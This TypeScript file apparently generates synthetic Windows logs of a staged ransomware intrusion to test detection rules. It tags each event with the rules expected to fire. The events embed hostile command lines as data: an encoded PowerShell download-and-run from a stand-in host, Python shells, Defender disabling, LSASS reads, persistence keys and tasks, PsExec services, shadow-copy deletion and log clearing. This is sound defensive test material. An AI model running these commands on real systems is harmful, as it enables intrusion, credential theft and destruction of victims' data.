/**
 * The intrusion on the Windows machines, step by step. Adds to the logs of `Logs`; every event says which rules must find
 * it.
 */
import {
  defender,
  explicitCredentials,
  logCleared,
  loggedOn,
  privilegedLogon,
  processAudited,
  scriptBlock,
  securityLogCleared,
  serviceInstalled,
  shareOpened,
} from './channels.ts'
import { at, type Log, type Mark } from './log.ts'
import {
  type Account,
  dnsQuery,
  fileCreated,
  networkConnection,
  type Process,
  processAccess,
  processCreated,
  registrySet,
  SYSTEM,
  type WindowsEvent,
} from './windows.ts'
import {
  ADMIN,
  CLERK,
  FILE_SERVER_ACCOUNT,
  FS02,
  factsOf,
  INTRUDER,
  INTRUDER_V6,
  type Machine,
  PATHS,
  WS07,
} from './world.ts'

/** The Windows logs of the samples. */
export interface Logs {
  /** Sysmon of both desks, as EVTX. */
  readonly sysmon: Log<WindowsEvent>
  /** Sysmon of the file server, as event XML. */
  readonly serverSysmon: Log<WindowsEvent>
  readonly security: Log<WindowsEvent>
  readonly system: Log<WindowsEvent>
  readonly powershell: Log<WindowsEvent>
  readonly defender: Log<WindowsEvent>
}

const FETCH =
  'Invoke-WebRequest -UseBasicParsing -Uri http://files.example.test/stage/notes.txt -OutFile $env:TEMP\\notes.txt; Start-Process $env:TEMP\\notes.txt'

/** Text as PowerShell takes it after `-EncodedCommand`: UTF-16 in Base64. */
export function encoded(script: string): string {
  return Buffer.from(script, 'utf16le').toString('base64')
}

/** A program is started at a time of day; gives its process. */
export function run(
  log: Log<WindowsEvent>,
  machine: Machine,
  clock: string,
  parent: Process,
  program: { readonly image: string; readonly command: string; readonly user?: Account },
  mark: Mark = {},
): Process {
  const time = at(clock)
  const user = program.user ?? machine.user
  const process = machine.spawn(program.image, program.command, user)
  const more = {
    directory: user === SYSTEM ? 'C:\\Windows\\System32\\' : `C:\\Users\\${user.name}\\`,
    integrity: user === SYSTEM ? 'System' : user === ADMIN ? 'High' : 'Medium',
  }
  const facts = factsOf(program.image)
  log.add(time, processCreated(machine.host, time, process, parent, facts, more), mark)
  return process
}

/** 09:12 to 09:17: the clerk opens a document, the document starts PowerShell, PowerShell fetches the rest. */
function openDocument(logs: Logs, clerk: Machine): { word: Process; shell: Process } {
  const { sysmon } = logs
  const mail = run(sysmon, clerk, '08:41:10', clerk.explorer, {
    image: PATHS.outlook,
    command: `"${PATHS.outlook}" `,
  })
  run(
    sysmon,
    clerk,
    '08:58:30',
    mail,
    {
      image: PATHS.cmd,
      command: `${PATHS.cmd} /c C:\\Users\\user07\\AppData\\Local\\LabelPrint\\print.cmd 4711`,
    },
    { quiet: [['office-starts-script-host', 'the known label printing add-in, filtered']] },
  )
  const word = run(sysmon, clerk, '09:12:40', mail, {
    image: PATHS.word,
    command: `"${PATHS.word}" /n "C:\\Users\\user07\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\7QX1B2\\Overdue notice 1103.docm" /o ""`,
  })
  run(
    sysmon,
    clerk,
    '09:13:02',
    word,
    {
      image: 'C:\\Windows\\splwow64.exe',
      command: 'C:\\Windows\\splwow64.exe 12288',
    },
    { quiet: [['office-starts-script-host', 'Word starts the print driver host, no script host']] },
  )
  const shell = run(
    sysmon,
    clerk,
    '09:14:05.250',
    word,
    {
      image: PATHS.powershell,
      command: `powershell.exe -NoProfile -WindowStyle Hidden -enc ${encoded(FETCH)}`,
    },
    {
      fires: [
        'office-starts-script-host',
        'powershell-encoded-command',
        'powershell-encoded-download',
      ],
    },
  )
  logs.powershell.add(
    at('09:14:06.010'),
    scriptBlock(WS07, CLERK, shell.pid, {
      id: '5d1f0a8e-3a0c-4a57-9b52-7f6f6f0f1103',
      text: FETCH,
      path: '',
    }),
    { fires: ['powershell-download-and-run'] },
  )
  for (const [clock, name] of [
    ['09:14:09', 'pastebin.com'],
    ['09:14:31', 'a41c-203-0-113-66.ngrok.example.test'],
  ] as const) {
    sysmon.add(at(clock), dnsQuery(WS07, at(clock), shell, name, ['203.0.113.80', INTRUDER]), {
      fires: ['abused-web-service-lookup'],
    })
  }
  for (const [clock, ip] of [
    ['09:14:10', INTRUDER],
    ['09:14:32', INTRUDER_V6],
  ] as const) {
    const from = { port: clerk.port(), ...(ip === INTRUDER ? {} : { ip: '2001:db8:20::107' }) }
    sysmon.add(at(clock), networkConnection(WS07, at(clock), shell, { ip, port: 443 }, from), {
      fires: ['script-host-public-connection'],
    })
  }
  return { word, shell }
}

/** 09:16 to 09:31: a renamed PowerShell, a look around, and an interactive shell through Python. */
function settleIn(logs: Logs, clerk: Machine, word: Process, shell: Process) {
  const { sysmon } = logs
  sysmon.add(at('09:16:12'), fileCreated(WS07, at('09:16:12'), shell, PATHS.hostmon))
  const monitor = run(
    sysmon,
    clerk,
    '09:17:02',
    word,
    {
      image: PATHS.hostmon,
      // An en dash in front of the switch: PowerShell takes it, a plain text search misses it.
      command: `"${PATHS.hostmon}" \u2013EncodedCommand ${encoded('Get-Process | Sort-Object CPU')}`,
    },
    {
      fires: ['office-starts-script-host', 'powershell-encoded-command'],
      quiet: [['powershell-encoded-download', 'the decoded text lists processes']],
    },
  )
  run(
    sysmon,
    clerk,
    '09:18:10',
    word,
    {
      image: 'C:\\Windows\\System32\\wscript.exe',
      command: 'wscript.exe //B C:\\Users\\user07\\AppData\\Local\\Temp\\notes.vbs',
    },
    { fires: ['office-starts-script-host'] },
  )
  for (const [clock, command] of [
    ['09:19:20', 'whoami  /priv'],
    ['09:19:44', 'whoami -groups'],
  ] as const) {
    run(
      sysmon,
      clerk,
      clock,
      shell,
      { image: PATHS.whoami, command },
      { fires: ['privilege-lookup'] },
    )
  }
  run(sysmon, clerk, '09:20:15', shell, {
    image: 'C:\\Windows\\System32\\net.exe',
    command: 'net  group "Domain Admins" /domain',
  })
  const python = run(
    sysmon,
    clerk,
    '09:26:03',
    shell,
    {
      image: PATHS.portablePython,
      command: `${PATHS.portablePython} -c "import pty; pty.spawn('cmd.exe')"`,
    },
    { fires: ['python-pseudo-terminal'] },
  )
  run(
    sysmon,
    clerk,
    '09:26:40',
    shell,
    {
      image: 'C:\\Users\\user07\\AppData\\Local\\Temp\\py\\PYTHON3.EXE',
      command: 'PYTHON3.EXE -c "from pty import spawn; spawn([\'powershell\'])"',
    },
    { fires: ['python-pseudo-terminal'] },
  )
  const time = at('09:26:05')
  sysmon.add(
    time,
    networkConnection(WS07, time, python, { ip: INTRUDER, port: 8443 }, { port: clerk.port() }),
    { fires: ['script-host-public-connection'] },
  )
  return { monitor, python }
}

function protectionOff(logs: Logs): void {
  const key = 'HKLM\\SOFTWARE\\Microsoft\\Windows Defender\\'
  const changed = (clock: string, before: string, after: string, mark: Mark): void => {
    const data = [
      ['Old Value', before],
      ['New Value', after],
    ] as const
    logs.defender.add(at(clock), defender(WS07, 5007, data), mark)
  }
  const fires = { fires: ['defender-protection-changed'] }
  changed('09:31:10', '', `${key}Exclusions\\Paths\\C:\\Users\\Public = 0x0`, fires)
  changed(
    '09:31:22',
    `${key}Real-Time Protection\\DisableRealtimeMonitoring = 0x0`,
    `${key}Real-Time Protection\\DisableRealtimeMonitoring = 0x1`,
    fires,
  )
  logs.defender.add(at('09:31:23'), defender(WS07, 5001, []), fires)
  changed(
    '08:47:51',
    `${key}Signature Updates\\EngineVersion = 1.1.26090.3`,
    `${key}Signature Updates\\EngineVersion = 1.1.26100.6`,
    { quiet: [['defender-protection-changed', 'a new engine, nothing is switched off']] },
  )
  changed(
    '08:47:52',
    `${key}Real-Time Protection\\DisableScriptScanning = 0x1`,
    `${key}Real-Time Protection\\DisableScriptScanning = 0x0`,
    { quiet: [['defender-protection-changed', 'protection is switched back on']] },
  )
}

/** 09:34 to 09:50: passwords out of memory, then two ways to come back. */
function stayAndSteal(
  logs: Logs,
  clerk: Machine,
  monitor: Process,
  python: Process,
  shell: Process,
) {
  const { sysmon } = logs
  const trace =
    'C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4|C:\\Windows\\System32\\KERNELBASE.dll+2c13e|UNKNOWN(00000183B20F1103)'
  for (const [clock, source, access] of [
    ['09:34:12', monitor, 0x1410],
    ['09:34:58', python, 0x1fffff],
  ] as const) {
    const time = at(clock)
    sysmon.add(time, processAccess(WS07, time, source, clerk.lsass, access, trace), {
      fires: ['lsass-memory-read'],
    })
  }
  const time = at('09:33:40')
  sysmon.add(time, processAccess(WS07, time, monitor, clerk.lsass, 0x1000, trace), {
    quiet: [['lsass-memory-read', 'the rights do not include reading memory']],
  })
  const run1 = `HKU\\${CLERK.sid}\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\HostMonitor`
  const run2 = 'HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\RunOnce\\Sync'
  for (const [clock, key, details] of [
    ['09:41:07', run1, `${PATHS.hostmon} -w hidden`],
    ['09:41:30', run2, 'C:\\ProgramData\\sync\\sync.cmd'],
  ] as const) {
    sysmon.add(at(clock), registrySet(WS07, at(clock), shell, key, details), {
      fires: ['run-key-user-folder'],
    })
  }
  for (const [clock, command] of [
    ['09:48:16', `schtasks /create /sc minute /mo 30 /tn HostMonitor /tr ${PATHS.hostmon} /f`],
    [
      '09:48:40',
      'schtasks  -Create -sc onlogon -tn "Sync notes" -tr "wscript.exe %TEMP%\\notes.vbs"',
    ],
  ] as const) {
    run(
      sysmon,
      clerk,
      clock,
      shell,
      { image: PATHS.schtasks, command },
      { fires: ['scheduled-task-user-folder'] },
    )
  }
}

/** 09:55 to 10:00: on to the file server with the administrator's password. */
function moveOn(logs: Logs, files: Machine, monitor: Process): Process {
  logs.security.add(
    at('09:55:31'),
    explicitCredentials(
      WS07,
      CLERK,
      { name: ADMIN.name, domain: 'CORP', server: 'FS02.corp.example.com' },
      monitor,
    ),
    { fires: ['explicit-credentials-other-account'] },
  )
  const from = { ip: WS07.ip, port: 50_911 }
  const session = { ...ADMIN, logonId: 0x9d4f12 }
  logs.security.add(at('09:55:32'), loggedOn(FS02, ADMIN, session.logonId, 3, from))
  logs.security.add(at('09:55:32.040'), privilegedLogon(FS02, ADMIN, session.logonId))
  logs.security.add(
    at('09:55:33'),
    shareOpened(FS02, session, from, { name: 'ADMIN$', path: '\\??\\C:\\Windows' }),
  )
  for (const [clock, name, path] of [
    ['09:56:02', 'PSEXESVC', '%SystemRoot%\\PSEXESVC.exe'],
    ['09:56:21', 'PSEXESVC-2', 'C:\\Windows\\Temp\\remote.exe'],
    ['09:56:33', 'winhelper', '%SystemRoot%\\PSEXESVC.exe'],
    ['09:56:48', 'kXbT', '%SystemRoot%\\kXbTqLwe.exe'],
  ] as const) {
    logs.system.add(
      at(clock),
      serviceInstalled(FS02, ADMIN, { name, path, start: 'demand start' }),
      { fires: ['psexec-service-install'] },
    )
  }
  const service = run(logs.serverSysmon, files, '09:56:03', files.services, {
    image: PATHS.psexec,
    command: 'C:\\Windows\\PSEXESVC.exe',
    user: SYSTEM,
  })
  const prompt = run(logs.serverSysmon, files, '09:56:05', service, {
    image: PATHS.cmd,
    command: '"cmd.exe"',
    user: SYSTEM,
  })
  logs.security.add(at('09:56:05.020'), processAudited(FS02, FILE_SERVER_ACCOUNT, prompt, service))
  return prompt
}

/** 10:02 to 10:12: files are locked, copies deleted, logs emptied. */
function extort(logs: Logs, files: Machine, prompt: Process): void {
  const { serverSysmon, security, system } = logs
  const locker = run(serverSysmon, files, '10:02:11', prompt, {
    image: 'C:\\Windows\\Temp\\archiver.exe',
    command: 'C:\\Windows\\Temp\\archiver.exe D:\\Shares\\Finance',
    user: SYSTEM,
  })
  const names = ['budget', 'forecast', 'invoice 0311', 'payroll', 'contract', 'offer', 'survey']
  const kinds = ['xlsx', 'docx', 'pdf', 'CSV', 'pptx']
  names.forEach((name, place) => {
    for (const step of [0, 1]) {
      const kind = kinds[(place + step * 2) % kinds.length] ?? 'docx'
      const time = at('10:02:14') + place * 1_730 + step * 410
      const path = `D:\\Shares\\Finance\\${name}.${kind}.locked7`
      serverSysmon.add(time, fileCreated(FS02, time, locker, path), {
        fires: ['document-second-extension'],
      })
    }
  })
  for (const [clock, image, command] of [
    ['10:09:01', PATHS.vssadmin, 'vssadmin  delete shadows /all /quiet'],
    ['10:09:09', PATHS.vssadmin, 'vssadmin resize shadowstorage /for=d: /on=d: /maxsize=401MB'],
    ['10:09:12', PATHS.wmic, 'wmic  shadowcopy delete /nointeractive'],
    ['10:09:15', PATHS.wbadmin, 'wbadmin  delete catalog -quiet'],
  ] as const) {
    const mark = { fires: ['shadow-copies-deleted'] }
    const child = run(serverSysmon, files, clock, prompt, { image, command, user: SYSTEM }, mark)
    security.add(at(clock) + 4, processAudited(FS02, FILE_SERVER_ACCOUNT, child, prompt), mark)
  }
  run(serverSysmon, files, '10:11:18', prompt, {
    image: PATHS.wevtutil,
    command: 'wevtutil  cl Security',
    user: SYSTEM,
  })
  security.add(at('10:11:19'), securityLogCleared(FS02, { ...ADMIN, logonId: 0x9d4f12 }), {
    fires: ['security-log-cleared'],
  })
  for (const [clock, name] of [
    ['10:11:24', 'System'],
    ['10:11:29', 'Windows PowerShell'],
  ] as const) {
    system.add(at(clock), logCleared(FS02, ADMIN, name), { fires: ['system-log-cleared'] })
  }
}

/** Adds the whole story to the logs. */
export function addIntrusion(
  logs: Logs,
  machines: { readonly clerk: Machine; readonly files: Machine },
): void {
  const { clerk, files } = machines
  const { word, shell } = openDocument(logs, clerk)
  const { monitor, python } = settleIn(logs, clerk, word, shell)
  protectionOff(logs)
  stayAndSteal(logs, clerk, monitor, python, shell)
  const prompt = moveOn(logs, files, monitor)
  extort(logs, files, prompt)
}
